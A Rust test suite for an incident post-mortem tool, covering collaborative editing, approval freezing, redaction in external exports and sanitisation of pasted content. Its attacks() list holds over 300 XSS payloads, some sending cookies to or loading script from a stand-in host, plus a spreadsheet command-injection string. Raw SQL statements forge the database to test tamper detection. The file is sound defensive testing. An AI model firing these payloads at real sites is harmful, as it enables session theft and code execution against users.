//! Post-mortems: two windows write one text, nothing is lost, what is approved is frozen, what stays inside leaves with no file, and
//! nothing that anybody pastes runs anywhere.

#![allow(clippy::unwrap_used)]

use quarterdeck_tests::{Bench, pdf_text, quarterdeck};
use serde_json::{Value, json};

async fn begun(bench: &Bench, title: &str) -> Value {
    let draft = json!({ "title": title, "kind": "cross-tenant-leak", "impact": null, "scope": null });
    let id = bench.call("incident_declare", draft).await["id"].clone();
    bench.call("postmortem_begin", json!({ "id": id })).await;
    id
}

async fn text(bench: &Bench, id: &Value) -> (String, u64) {
    let view = bench.call("postmortem_text", json!({ "id": id })).await;
    (view["text"].as_str().unwrap().to_owned(), view["revision"].as_u64().unwrap())
}

fn change(from: usize, to: usize, insert: &str) -> Value {
    json!({ "from": from, "to": to, "insert": insert })
}

async fn write(bench: &Bench, id: &Value, base: u64, changes: Vec<Value>) -> Value {
    bench.call("postmortem_write", json!({ "id": id, "base": base, "changes": changes })).await
}

/// Makes the whole text another.
async fn replace(bench: &Bench, id: &Value, with: &str) {
    let (now, revision) = text(bench, id).await;
    let units = now.encode_utf16().count();
    write(bench, id, revision, vec![change(0, units, with)]).await;
}

async fn state(bench: &Bench, id: &Value, state: &str) -> Result<Value, app::WireError> {
    bench.try_call("postmortem_state", json!({ "id": id, "state": state, "by": "Ada Lovelace" })).await
}

#[tokio::test(flavor = "multi_thread")]
async fn two_windows_write_one_text_and_neither_writes_over_the_other() {
    let bench = Bench::with_workspace().await;
    let id = begun(&bench, "Two at once").await;
    replace(&bench, &id, "one two three").await;
    let (_, base) = text(&bench, &id).await;
    // Both typed on the same revision: the second is told of the first.
    let first = write(&bench, &id, base, vec![change(0, 3, "ONE")]).await;
    assert_eq!((&first["revision"], &first["others"]), (&json!(base + 1), &Value::Null));
    let second = write(&bench, &id, base, vec![change(13, 13, " four 😀")]).await;
    assert_eq!(second["others"], change(0, 3, "ONE"));
    assert_eq!(text(&bench, &id).await, ("ONE two three four 😀".to_owned(), base + 2));
    // The same words by both: refused, nothing written, and what was typed comes in on top of theirs.
    let refused = bench
        .try_call("postmortem_write", json!({ "id": id, "base": base, "changes": [change(1, 2, "x")] }))
        .await
        .unwrap_err();
    assert_eq!(refused.code, "postmortem-conflict");
    assert_eq!(text(&bench, &id).await.1, base + 2);
    // A question without changes writes nothing.
    let asked = write(&bench, &id, base + 1, Vec::new()).await;
    assert_eq!((&asked["revision"], &asked["others"]["insert"]), (&json!(base + 2), &json!(" four 😀")));
    // A change that is none of this text.
    let wrong = json!({ "id": id, "base": base + 2, "changes": [change(500, 501, "x")] });
    assert_eq!(bench.try_call("postmortem_write", wrong).await.unwrap_err().code, "postmortem-change");
}

#[tokio::test(flavor = "multi_thread")]
async fn every_pause_is_a_revision_that_can_be_read_again_and_brought_back() {
    let bench = Bench::with_workspace().await;
    let id = begun(&bench, "Many saves").await;
    replace(&bench, &id, "").await;
    let (_, start) = text(&bench, &id).await;
    let mut texts = vec![String::new()];
    let mut seed = 7_u64;
    // Beyond two whole texts, which stand every sixty-four revisions.
    for step in 0..150_u64 {
        seed = seed.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        let now = texts.last().unwrap().clone();
        let places: Vec<usize> = now.char_indices().map(|(at, _)| at).chain([now.len()]).collect();
        let at = places[(seed >> 33) as usize % places.len()];
        let to = places.iter().copied().find(|place| *place >= (at + step as usize % 3).min(now.len())).unwrap();
        let insert = ["a", "时间", "😀\n", "x y"][(seed >> 20) as usize % 4];
        let units = |part: &str| part.encode_utf16().count();
        let (from, until) = (units(&now[..at]), units(&now[..to]));
        write(&bench, &id, start + step, vec![change(from, until, insert)]).await;
        texts.push(format!("{}{insert}{}", &now[..at], &now[to..]));
    }
    assert_eq!(text(&bench, &id).await, (texts[150].clone(), start + 150));
    for number in [0, 1, 63, 64, 65, 100, 149] {
        let version = bench.call("postmortem_version", json!({ "id": id, "number": start + number as u64 })).await;
        assert_eq!(version["text"], texts[number].as_str(), "{number}");
    }
    let restored = bench.call("postmortem_restore", json!({ "id": id, "number": start + 10 })).await;
    assert_eq!(restored["revision"], json!(start + 151));
    assert_eq!(text(&bench, &id).await.0, texts[10]);
    // What was typed in one go is one version, what was brought back another; those between are all still there.
    let history = bench.call("postmortem_history", json!({ "id": id })).await;
    assert_eq!(history[0]["cause"], "Brought back", "{history}");
    assert_eq!((history[1]["number"].as_u64(), history.as_array().unwrap().len()), (Some(start + 150), 3), "{history}");
    let blame = bench.call("postmortem_blame", json!({ "id": id })).await;
    assert_eq!(blame.as_array().unwrap().len(), texts[10].lines().count());
}

#[tokio::test(flavor = "multi_thread")]
async fn what_is_approved_is_frozen_and_one_changed_on_disk_is_found() {
    let bench = Bench::with_workspace().await;
    let id = begun(&bench, "To be approved").await;
    replace(&bench, &id, "## Summary\n\nIt happened.").await;
    let row = json!({ "incidentId": id, "at": "2026-09-14T13:02:00Z", "text": "It began", "evidence": "log" });
    let event = bench.call("event_save", row.clone()).await["id"].clone();
    assert_eq!(state(&bench, &id, "approved").await.unwrap_err().code, "postmortem-step");
    state(&bench, &id, "review").await.unwrap();
    state(&bench, &id, "approved").await.unwrap();
    let view = async || bench.call("postmortem", json!({ "id": id })).await;
    assert_eq!(
        (&view().await["approval"]["holds"], &view().await["approval"]["by"]),
        (&json!(true), &json!("Ada Lovelace"))
    );
    let (_, revision) = text(&bench, &id).await;
    let code = async |command: &str, payload: Value| bench.try_call(command, payload).await.unwrap_err().code;
    let typed = json!({ "id": id, "base": revision, "changes": [change(0, 1, "x")] });
    assert_eq!(code("postmortem_write", typed).await, "postmortem-frozen");
    assert_eq!(code("event_save", row).await, "postmortem-frozen");
    assert_eq!(code("event_delete", json!({ "id": event })).await, "postmortem-frozen");
    // An action that is open keeps it from being closed; evidence is asked for before it counts as verified.
    let action = json!({ "incidentId": id, "title": "Filter by tenant", "kind": "prevent" });
    let made = bench.call("action_save", action.clone()).await["id"].clone();
    assert_eq!(state(&bench, &id, "closed").await.unwrap_err().code, "postmortem-actions-open");
    let mut verified = action;
    verified["id"] = made;
    verified["status"] = json!("verified");
    let refused = bench.try_call("action_save", verified.clone()).await.unwrap_err();
    assert_eq!(refused.fields[0].field, "evidence");
    verified["evidence"] = json!("36 of 36 probes");
    bench.call("action_save", verified).await;
    state(&bench, &id, "closed").await.unwrap();
    // Past the program, in the file itself.
    let path = bench.call("workspace_status", Value::Null).await["path"].as_str().unwrap().to_owned();
    bench.call("workspace_close", Value::Null).await;
    use store::sqlx::{Connection, SqliteConnection, raw_sql};
    let whole = std::fs::read(&path).unwrap();
    for forged in [
        "DROP TRIGGER postmortem_revision_changed; UPDATE postmortem_revision SET body = replace(body, 'happened', 'did not') WHERE number = (SELECT max(number) FROM postmortem_revision)",
        "UPDATE incident_event SET details = json_set(details, '$.text', 'It began later')",
        "UPDATE incident SET details = json_set(details, '$.title', 'Another')",
    ] {
        std::fs::write(&path, &whole).unwrap();
        let mut file = SqliteConnection::connect(&format!("sqlite://{path}")).await.unwrap();
        raw_sql(forged).execute(&mut file).await.unwrap();
        file.close().await.unwrap();
        bench.call("workspace_open", json!({ "path": path })).await;
        assert_eq!(view().await["approval"]["holds"], json!(false), "{forged}");
        if forged.contains("revision") {
            // The newest text that can be read is shown, and says that it is not the newest.
            let read = bench.call("postmortem_text", json!({ "id": id })).await;
            assert_eq!(read["damaged"], json!(true), "{read}");
        }
        bench.call("workspace_close", Value::Null).await;
    }
    let mut file = SqliteConnection::connect(&format!("sqlite://{path}")).await.unwrap();
    std::fs::write(&path, &whole).unwrap();
    assert!(raw_sql("DELETE FROM postmortem_revision").execute(&mut file).await.is_err());
}

#[tokio::test(flavor = "multi_thread")]
async fn what_stays_inside_leaves_with_no_file_for_others() {
    let bench = Bench::with_workspace().await;
    let id = begun(&bench, "Notes of Northgate shown to another").await;
    bench.call("postmortem_names", json!({ "id": id, "names": ["Northgate", "Ada Lovelace"] })).await;
    let body = "## Summary\n\nAnswers at NORTHGATE quoted {==patient Zebulon Quax==}. Zebulon quax was told by ada  lovelace.\n\n{{timeline}}\n\n{{actions}}\n\n{==half marked secretword";
    replace(&bench, &id, body).await;
    let row = json!({ "incidentId": id, "at": "2026-09-14T13:02:00Z", "text": "Northgate calls {==hushword==}", "evidence": "ticket-4711", "who": "Ada Lovelace" });
    bench.call("event_save", row).await;
    let action = json!({ "incidentId": id, "title": "Call Northgate again", "kind": "process", "owner": "Ada Lovelace", "verify": "hushword is gone" });
    bench.call("action_save", action).await;
    let kept = ["northgate", "zebulon", "quax", "lovelace", "secretword", "hushword", "ticket-4711", "{=="];
    for form in ["markdown", "html", "pdf"] {
        let path = bench.path(&format!("external-{form}"));
        let ask = json!({ "id": id, "form": form, "external": true, "path": path });
        let done = bench.call("postmortem_export", ask).await;
        let file = done["path"].as_str().unwrap();
        let said = if form == "pdf" { pdf_text(file.as_ref()) } else { std::fs::read_to_string(file).unwrap() };
        let bytes = String::from_utf8_lossy(&std::fs::read(file).unwrap()).to_lowercase();
        for word in kept {
            assert!(!said.to_lowercase().contains(word) && !bytes.contains(word), "{form}: {word}\n{said}");
        }
        assert!(said.contains("■■■■■") || form == "pdf", "{form}");
        // For people inside everything is there, and no mark.
        let ask = json!({ "id": id, "form": form, "path": bench.path(&format!("internal-{form}")) });
        let done = bench.call("postmortem_export", ask).await;
        let file = done["path"].as_str().unwrap();
        let said = if form == "pdf" { pdf_text(file.as_ref()) } else { std::fs::read_to_string(file).unwrap() };
        for word in ["Zebulon", "hushword", "secretword", "ticket-4711", "Ada Lovelace"] {
            assert!(said.contains(word), "{form}: {word}\n{said}");
        }
        assert!(!said.contains("{=="), "{form}");
    }
}

/// Random texts, marked at random: no marked word is in any form of the version for others.
#[tokio::test(flavor = "multi_thread")]
async fn two_hundred_random_documents_leak_no_marked_word() {
    let bench = Bench::with_workspace().await;
    let id = begun(&bench, "Random").await;
    let (mut seed, mut papers) = (11_u64, 0);
    let mut next = |most: u64| {
        seed = seed.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        (seed >> 33) % most
    };
    for document in 0..200 {
        let (mut body, mut marked) = ("## Heading\n\n".to_owned(), Vec::new());
        for word in 0..30 + next(30) {
            let said = format!("w{}x{document}x{word}z", ["alpha", "beta", "时间", "gamma"][next(4) as usize]);
            match next(6) {
                0 => {
                    body.push_str(&format!("{{=={said}==}} "));
                    marked.push(said);
                }
                1 => body.push_str(&format!("**{said}**\n- ")),
                2 => body.push_str(&format!("`{said}`, ")),
                3 => body.push_str(&format!("[{said}](https://x.example/{said})\n\n")),
                _ => body.push_str(&format!("{said} ")),
            }
        }
        replace(&bench, &id, &body).await;
        // Drawing a page takes its time: some of them.
        let forms: &[&str] = if document % 25 == 0 { &["markdown", "html", "pdf"] } else { &["markdown", "html"] };
        for form in forms {
            let ask = json!({ "id": id, "form": form, "external": true, "path": bench.path(&format!("r.{form}")), "replace": true });
            let done = bench.call("postmortem_export", ask).await;
            let file = done["path"].as_str().unwrap();
            let said = if *form == "pdf" { pdf_text(file.as_ref()) } else { std::fs::read_to_string(file).unwrap() };
            papers += usize::from(*form == "pdf");
            for word in &marked {
                assert!(!said.contains(word.as_str()), "{form} {document}: {word}");
            }
        }
    }
    assert_eq!(papers, 8);
}

/// Attack strings: tags, handlers, addresses and encodings, in every combination.
fn attacks() -> Vec<String> {
    let scripts = [
        "alert(1)",
        "alert`1`",
        "top[`al`+`ert`](1)",
        "import('//evil.example/x.js')",
        "fetch('//evil.example/?'+document.cookie)",
    ];
    let shapes = [
        "<script>{}</script>",
        "<ScRiPt src=//evil.example/x.js>{}</sCrIpT>",
        "<img src=x onerror=\"{}\">",
        "<img/src=\"x\"/onerror='{}'>",
        "<svg onload={}>",
        "<svg><script>{}</script></svg>",
        "<math><mi//xlink:href=\"javascript:{}\">",
        "<iframe srcdoc=\"<script>{}</script>\"></iframe>",
        "<iframe src=\"javascript:{}\"></iframe>",
        "<object data=\"javascript:{}\"></object>",
        "<embed src=\"javascript:{}\">",
        "<a href=\"javascript:{}\">x</a>",
        "<form action=\"javascript:{}\"><input type=submit></form>",
        "<details open ontoggle=\"{}\">",
        "<body onload=\"{}\">",
        "<input autofocus onfocus=\"{}\">",
        "<video><source onerror=\"{}\">",
        "<marquee onstart=\"{}\">",
        "<style>@import '//evil.example/{}'</style>",
        "<link rel=stylesheet href=\"//evil.example/{}\">",
        "<meta http-equiv=refresh content=\"0;url=javascript:{}\">",
        "<base href=\"javascript:{}//\">",
        "<template><script>{}</script></template>",
        "<noscript><p title=\"</noscript><img src=x onerror={}>\"></noscript>",
        "<!--><img src=x onerror={}>-->",
        "<![CDATA[<img src=x onerror={}>]]>",
        "</title><script>{}</script>",
        "</style><script>{}</script>",
        "\"><script>{}</script>",
        "'-{}-'",
        "[x](javascript:{})",
        "[x](JaVaScRiPt:{})",
        "[x](java\u{0}script:{})",
        "[x](&#x6A;avascript:{})",
        "[x](data:text/html;base64,PHNjcmlwdD4)",
        "[x](vbscript:{})",
        "![x](javascript:{})",
        "![x](https://evil.example/{}.png)",
        "<https://evil.example/\"onmouseover={}>",
        "[x]: javascript:{}\n\n[x]",
        "`<script>{}</script>`",
        "```html\n<script>{}</script>\n```",
        "```\"onload={}\nx\n```",
        "| <script>{}</script> |\n|---|\n| <img src=x onerror={}> |",
        "~~<svg onload={}>~~",
        "> <img src=x onerror={}>",
        "- [ ] <img src=x onerror={}>",
        "# <img src=x onerror={}>",
        "\u{202e}<script>{}</script>",
        "\u{1b}[31m<script>{}</script>",
        "=cmd|'/c {}'!A1",
        "%3Cscript%3E{}%3C/script%3E",
        "&lt;script&gt;{}&lt;/script&gt;",
        "<a href=\"&#1;javascript:{}\">x</a>",
        "<svg><animate onbegin={} attributeName=x dur=1s>",
        "<xss style=\"background:url('javascript:{}')\">",
        "<script\n>{}</script\n>",
        "<<script>{}//<</script>",
        "<img src=`x` onerror={}>",
        "<div style=\"width:expression({})\">",
    ];
    shapes.iter().flat_map(|shape| scripts.iter().map(move |script| shape.replace("{}", script))).collect()
}

/// No element and no attribute of a page is of an attack: whatever was pasted is text.
fn nothing_runs(page: &str) -> Result<(), String> {
    // Of the page's own head everything is known.
    let body = page.split_once("<body>").map_or(page, |(_, body)| body);
    let lower = body.to_lowercase();
    let known = [
        "a",
        "p",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "ul",
        "ol",
        "li",
        "strong",
        "em",
        "del",
        "code",
        "pre",
        "blockquote",
        "hr",
        "br",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
        "dl",
        "dt",
        "dd",
        "input",
        "figure",
        "svg",
        "g",
        "path",
        "rect",
        "line",
        "text",
        "circle",
        "polyline",
        "polygon",
        "title",
        "desc",
        "tspan",
        "defs",
        "clippath",
        "body",
        "html",
    ];
    let mut rest = lower.as_str();
    while let Some(start) = rest.find('<') {
        let tag = &rest[start + 1..];
        let end = tag.find('>').ok_or("an element that does not end")?;
        let inner = &tag[..end];
        let name: String = inner.trim_start_matches('/').chars().take_while(char::is_ascii_alphanumeric).collect();
        if !known.contains(&name.as_str()) {
            return Err(format!("element {inner}"));
        }
        for (attribute, value) in inner.split_whitespace().skip(1).filter_map(|part| part.split_once('=')) {
            if attribute.starts_with("on") || attribute == "src" || attribute == "srcdoc" {
                return Err(format!("attribute {inner}"));
            }
            let address = value.trim_matches(['"', '\'']);
            if attribute == "href"
                && !(address.starts_with("https://")
                    || address.starts_with("http://")
                    || address.starts_with("mailto:"))
            {
                return Err(format!("address {inner}"));
            }
        }
        rest = &tag[end + 1..];
    }
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn three_hundred_attack_strings_are_text_in_every_field_and_every_form() {
    let attacks = attacks();
    assert!(attacks.len() >= 300, "{}", attacks.len());
    let bench = Bench::with_workspace().await;
    let id = begun(&bench, "<script>alert(1)</script>").await;
    for (group, some) in attacks.chunks(60).enumerate() {
        replace(&bench, &id, &format!("{}\n\n{{{{timeline}}}}\n\n{{{{actions}}}}", some.join("\n\n"))).await;
        for (at, attack) in some.iter().enumerate().step_by(7) {
            let row = json!({ "incidentId": id, "at": format!("2026-09-14T1{group}:{at:02}:00Z"), "text": attack, "evidence": attack, "who": attack });
            bench.call("event_save", row).await;
            let action =
                json!({ "incidentId": id, "title": attack, "kind": "prevent", "owner": attack, "verify": attack });
            bench.call("action_save", action).await;
        }
        for external in [false, true] {
            let ask = json!({ "id": id, "form": "html", "external": external, "path": bench.path("x.html"), "replace": true });
            bench.call("postmortem_export", ask).await;
            let page = std::fs::read_to_string(bench.path("x.html")).unwrap();
            nothing_runs(&page).unwrap();
            assert!(page.contains("default-src 'none'"), "the page says so itself");
        }
        let ask = json!({ "id": id, "form": "pdf", "path": bench.path("x.pdf"), "replace": true });
        bench.call("postmortem_export", ask).await;
        let bytes = std::fs::read(bench.path("x.pdf")).unwrap();
        for active in [&b"/JavaScript"[..], b"/JS", b"/Launch", b"/OpenAction", b"/AA"] {
            assert!(!bytes.windows(active.len()).any(|part| part == active), "{}", String::from_utf8_lossy(active));
        }
    }
    // The check itself finds what runs.
    for live in ["<script>x</script>", "<img src=x>", "<p onclick=x>", "<a href=\"javascript:x\">"] {
        assert!(nothing_runs(live).is_err(), "{live}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_chat_becomes_a_time_line_once_and_is_taken_back_as_one() {
    let bench = Bench::with_workspace().await;
    let id = begun(&bench, "From a chat").await;
    let pasted = "14:05 Ada: canary is red\n14:06 Bo: looking\n  at the index\n";
    let ask = json!({ "text": pasted, "zone": "America/New_York", "day": "2026-09-14" });
    let chat = bench.call("chat_read", ask.clone()).await;
    assert_eq!(chat["events"][0]["event"]["at"], "2026-09-14T18:05:00Z", "{chat}");
    let events: Vec<Value> = chat["events"].as_array().unwrap().iter().map(|one| one["event"].clone()).collect();
    let batch = bench.call("events_add", json!({ "incidentId": id, "events": events })).await;
    assert_eq!(batch["ids"].as_array().unwrap().len(), 2);
    let lines = async || bench.call("postmortem", json!({ "id": id })).await["events"].as_array().unwrap().len();
    assert_eq!(lines().await, 2);
    // The same chat again adds nothing.
    let again = bench.call("events_add", json!({ "incidentId": id, "events": events })).await;
    assert_eq!((again["ids"].as_array().unwrap().len(), lines().await), (0, 2));
    bench.call("undo_together", batch).await;
    assert_eq!(lines().await, 0);
    // Ten thousand lines, from a file; an export of Slack with the names beside it.
    let long: String = (0..10_000)
        .map(|at| format!("2026-09-14 {:02}:{:02}:{:02} Ada: line {at}\n", at / 3_600 % 24, at / 60 % 60, at % 60))
        .collect();
    let path = bench.write("chat.txt", long);
    assert_eq!(bench.call("chat_read", json!({ "path": path })).await["count"], json!(10_000));
    bench.write("users.json", r#"[{ "id": "U1", "name": "ada", "profile": { "real_name": "Ada Lovelace" } }]"#);
    let path = bench
        .write("channel.json", r#"[{ "type": "message", "user": "U1", "text": "seen", "ts": "1789409100.000100" }]"#);
    assert_eq!(bench.call("chat_read", json!({ "path": path })).await["events"][0]["event"]["who"], "Ada Lovelace");
    let code = async |payload: Value| bench.try_call("chat_read", payload).await.unwrap_err().code;
    assert_eq!(code(json!({ "text": "no times at all" })).await, "chat-no-times");
    assert_eq!(code(json!({ "text": "[{\"a\": 1}]" })).await, "chat-not-slack");
    assert_eq!(code(json!({ "path": bench.path("missing.txt") })).await, "chat-unreadable");
    let mut elsewhere = ask;
    elsewhere["zone"] = json!("Nowhere/At-all");
    assert_eq!(bench.try_call("chat_read", elsewhere).await.unwrap_err().fields[0].field, "zone");
}

#[tokio::test(flavor = "multi_thread")]
async fn actions_wait_on_home_until_they_are_verified_and_undo_brings_one_back() {
    let bench = Bench::with_workspace().await;
    let id = begun(&bench, "With actions").await;
    let draft = |status: &str, evidence: &str| json!({ "incidentId": id, "title": "Filter by tenant", "kind": "prevent", "status": status, "due": "2020-01-02", "evidence": evidence });
    let made = bench.call("action_save", draft("open", "")).await["id"].clone();
    let waits = async || {
        let home = bench.call("home", Value::Null).await;
        home["attention"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|one| one["area"] == "postmortem")
            .map(|one| one["kind"].clone())
            .collect::<Vec<_>>()
    };
    assert_eq!(waits().await, [json!("action-due")]);
    let save = async |status: &str, evidence: &str| {
        let mut action = draft(status, evidence);
        action["id"] = made.clone();
        bench.call("action_save", action).await
    };
    save("done", "").await;
    assert_eq!(waits().await, [json!("action-verify")]);
    save("verified", "a drill").await;
    assert!(waits().await.is_empty());
    bench.call("action_delete", json!({ "id": made })).await;
    assert_eq!(bench.call("actions", Value::Null).await, json!([]));
    bench.call("undo", Value::Null).await;
    assert_eq!(bench.call("actions", Value::Null).await[0]["details"]["status"], "verified");
    let hints = bench.call("postmortem_hints", json!({ "text": "She should have noticed." })).await;
    assert_eq!(hints[0]["reason"], "hindsight");
    assert_eq!(bench.call("postmortem_head", json!({ "id": id })).await["revision"], json!(1));
}

/// The sample's own post-mortem on paper, in both languages and for others, by the command line.
#[test]
fn the_sample_leaves_by_the_command_line_in_every_form() {
    let desk = tempfile::tempdir().unwrap();
    let run = |arguments: &[&str]| quarterdeck(desk.path(), arguments);
    assert!(run(&["new", "s.quarterdeck", "--sample"]).status.success());
    let on = |arguments: &[&str]| run(&[&["-w", "s.quarterdeck"], arguments].concat());
    let done = on(&["postmortem", "export", "INC-27", "--pdf", "--out", "p.pdf"]);
    assert!(done.status.success(), "{}", String::from_utf8_lossy(&done.stderr));
    let text = pdf_text(&desk.path().join("p.pdf")).split_whitespace().collect::<Vec<_>>().join(" ");
    for said in [
        "Visit notes of one clinic shown to another",
        "SEV1",
        "Northgate Health System",
        "Root cause: technical",
        "Make the tenant part of every cache key",
        "Approved by Anneke de Vries",
    ] {
        assert!(text.contains(said), "{said}\n{text}");
    }
    assert!(on(&["postmortem", "export", "27", "--html", "--external", "--out", "x.html"]).status.success());
    let page = std::fs::read_to_string(desk.path().join("x.html")).unwrap();
    for kept in ["Northgate", "Priya Raman", "Lena Brandt", "Marcus Oyelaran", "{=="] {
        assert!(!page.contains(kept), "{kept}");
    }
    nothing_runs(&page).unwrap();
    let overdue = on(&["actions", "--overdue", "--json"]);
    let rows: Value = serde_json::from_slice(&overdue.stdout).unwrap();
    let expected = if rows.as_array().unwrap().is_empty() { 0 } else { 3 };
    assert_eq!(overdue.status.code(), Some(expected));
    let shown = on(&["postmortem", "show", "INC-22"]);
    assert!(String::from_utf8_lossy(&shown.stdout).contains("withdrawn guideline"));
    assert!(!on(&["postmortem", "export", "INC-34", "--pdf", "--out", "n.pdf"]).status.success());
}

/// What is done behind an approval, each by itself: appended, removed, signed by another.
#[tokio::test(flavor = "multi_thread")]
async fn whatever_is_done_behind_an_approval_is_said_on_the_page_and_in_the_file() {
    let bench = Bench::with_workspace().await;
    let id = begun(&bench, "Approved").await;
    replace(&bench, &id, "## Summary\n\nIt happened.").await;
    let row = json!({ "incidentId": id, "at": "2026-09-14T13:02:00Z", "text": "It began" });
    bench.call("event_save", row).await;
    let action =
        json!({ "incidentId": id, "title": "Mend it", "kind": "prevent", "status": "verified", "evidence": "a drill" });
    let made = bench.call("action_save", action.clone()).await["id"].clone();
    state(&bench, &id, "review").await.unwrap();
    state(&bench, &id, "approved").await.unwrap();
    // Taking back what was done before is no way around it.
    let log = bench.call("activity", json!({ "limit": 50 })).await;
    let added = log.as_array().unwrap().iter().find(|one| one.to_string().contains("It began")).unwrap()["id"].clone();
    assert_eq!(bench.try_call("undo", json!({ "id": added })).await.unwrap_err().code, "postmortem-frozen");
    state(&bench, &id, "closed").await.unwrap();
    // An action that is open again opens what was closed.
    let mut open = action;
    open["id"] = made;
    open["status"] = json!("open");
    bench.call("action_save", open).await;
    let view = async || bench.call("postmortem", json!({ "id": id })).await;
    assert_eq!((&view().await["state"], &view().await["approval"]["holds"]), (&json!("approved"), &json!(true)));
    let path = bench.call("workspace_status", Value::Null).await["path"].as_str().unwrap().to_owned();
    bench.call("workspace_close", Value::Null).await;
    let whole = std::fs::read(&path).unwrap();
    use store::sqlx::{AssertSqlSafe, Connection, SqliteConnection, raw_sql};
    let forged = "## Summary\n\nNothing happened.";
    let hash = domain::postmortem::history::hash(forged);
    let body = json!({ "kind": "whole", "text": forged }).to_string().replace('\'', "''");
    for sql in [
        format!(
            "INSERT INTO postmortem_revision SELECT incident_id, max(number) + 1, at, author, 1, '{body}', '{hash}', '' FROM postmortem_revision"
        ),
        "UPDATE postmortem SET details = json_set(details, '$.approval', json('null'))".to_owned(),
        "UPDATE postmortem SET details = json_set(details, '$.approval.by', 'Mallory')".to_owned(),
        "UPDATE postmortem SET details = json_set(details, '$.approval.at', '2019-12-31T00:00:00Z')".to_owned(),
        "UPDATE postmortem SET details = json_set(details, '$.approval.hash', 'abc')".to_owned(),
    ] {
        std::fs::write(&path, &whole).unwrap();
        let mut file = SqliteConnection::connect(&format!("sqlite://{path}")).await.unwrap();
        raw_sql(AssertSqlSafe(sql.clone())).execute(&mut file).await.unwrap();
        file.close().await.unwrap();
        bench.call("workspace_open", json!({ "path": path })).await;
        assert_eq!(view().await["approval"]["holds"], json!(false), "{sql}");
        let ask = json!({ "id": id, "form": "markdown", "path": bench.path("out.md"), "replace": true });
        bench.call("postmortem_export", ask).await;
        let said = std::fs::read_to_string(bench.path("out.md")).unwrap();
        assert!(said.contains("Not as it was approved") && !said.contains("Approved by"), "{sql}: {said}");
        bench.call("workspace_close", Value::Null).await;
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn names_of_a_chat_stay_inside_and_ordinary_words_that_are_marked_keep_no_file_from_leaving() {
    let bench = Bench::with_workspace().await;
    let id = begun(&bench, "Chat").await;
    let row = json!({ "incidentId": id, "at": "2026-10-29T13:02:00Z", "text": "@Grace Hopper: restarted, ask @Ada Lovelace", "who": "Grace Hopper" });
    bench.call("event_save", row).await;
    bench
        .call(
            "action_save",
            json!({ "incidentId": id, "title": "Ask Linus", "kind": "process", "owner": "Linus Pauling" }),
        )
        .await;
    bench.call("postmortem_names", json!({ "id": id, "names": ["Ada Lovelace"] })).await;
    let words = "{==an open wound==} {==kind nurse==} {==draft letter==} {==UTC==} {==29 Oct 2026==} {==patient title==} {==the text message==} {==font size==}";
    replace(
        &bench,
        &id,
        &format!("{words} by grace  HOPPER, Linus\u{200b} Pauling.\n\n{{{{timeline}}}}\n\n{{{{actions}}}}"),
    )
    .await;
    for form in ["markdown", "html", "pdf"] {
        let ask = json!({ "id": id, "form": form, "external": true, "path": bench.path(&format!("x.{form}")) });
        let done = bench.call("postmortem_export", ask).await;
        let file = done["path"].as_str().unwrap();
        let said = if form == "pdf" { pdf_text(file.as_ref()) } else { std::fs::read_to_string(file).unwrap() };
        for name in ["hopper", "lovelace", "pauling"] {
            assert!(!said.to_lowercase().contains(name), "{form}: {said}");
        }
        assert!(said.contains('■'), "{form}: what is withheld can be seen: {said}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_long_row_is_printed_whole_and_hostile_chats_are_refused_in_a_sentence() {
    let bench = Bench::with_workspace().await;
    let id = begun(&bench, "Long").await;
    replace(&bench, &id, "{{timeline}}").await;
    let log: String = (0..400).map(|line| format!("line-{line:03} of the log\n")).collect();
    bench.call("event_save", json!({ "incidentId": id, "at": "2026-09-14T13:02:00Z", "text": log })).await;
    let ask = json!({ "id": id, "form": "pdf", "path": bench.path("long.pdf") });
    bench.call("postmortem_export", ask).await;
    let text = pdf_text(bench.path("long.pdf").as_ref());
    for line in [0, 64, 65, 200, 399] {
        assert!(text.contains(&format!("line-{line:03}")), "line {line} is missing");
    }
    let code = async |payload: Value| {
        bench.try_call("chat_read", payload).await.map(|view| view.to_string()).unwrap_or_else(|error| error.code)
    };
    assert_eq!(code(json!({ "path": "/dev/zero" })).await, "chat-unreadable");
    assert_eq!(code(json!({ "text": "[{\"ts\": \"1\", \"text\": \"\\ud800\"" })).await, "chat-not-slack");
    for text in ["2026-09-14T14:05:10+０２００ Ada: hi", "2026-09-14T14:05:０0Z Ada: hi"] {
        assert_ne!(code(json!({ "text": text })).await, "internal", "{text}");
    }
    for ts in ["8210266876799.9", "-8334601228800.0", "99999999999999999999"] {
        let chat = json!([{ "ts": ts, "text": "x" }]).to_string();
        assert_eq!(code(json!({ "text": chat, "zone": "Pacific/Auckland" })).await, "chat-not-slack", "{ts}");
    }
}
